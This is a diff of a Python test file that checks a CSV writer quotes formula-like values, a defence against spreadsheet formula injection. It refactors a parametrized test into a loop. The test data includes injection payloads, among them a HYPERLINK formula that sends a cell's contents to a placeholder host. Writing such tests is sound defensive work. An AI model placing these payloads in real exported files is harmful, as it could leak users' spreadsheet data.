@@ -3,8 +3,6 @@
 import csv
 import io
 
-import pytest
-
 from orthobench.tools.files import write_csv
 
 
@@ -15,13 +13,21 @@ def written(rows):
     return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))
 
 
-@pytest.mark.parametrize(
-    "text",
-    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//a.b/"&A1)', "- msg"],
-)
-def test_a_text_that_is_a_formula_is_quoted(text):
-    assert written([["name", "gap"], [text, 1.5]]) == [["name", "gap"], [f"'{text}", "1.5"]]
-    assert written([[text]]) == [[f"'{text}"]]  # a name of a column is no better
+def test_a_text_that_is_a_formula_is_quoted():
+    for text in (
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        '=HYPERLINK("//a.b/"&A1)',
+        "- msg",
+    ):
+        assert written([["name", "gap"], [text, 1.5]]) == [["name", "gap"], [f"'{text}", "1.5"]], (
+            text
+        )
+        assert written([[text]]) == [[f"'{text}"]], text  # a name of a column is no better
 
 
 def test_numbers_and_other_text_stay_as_they_are():
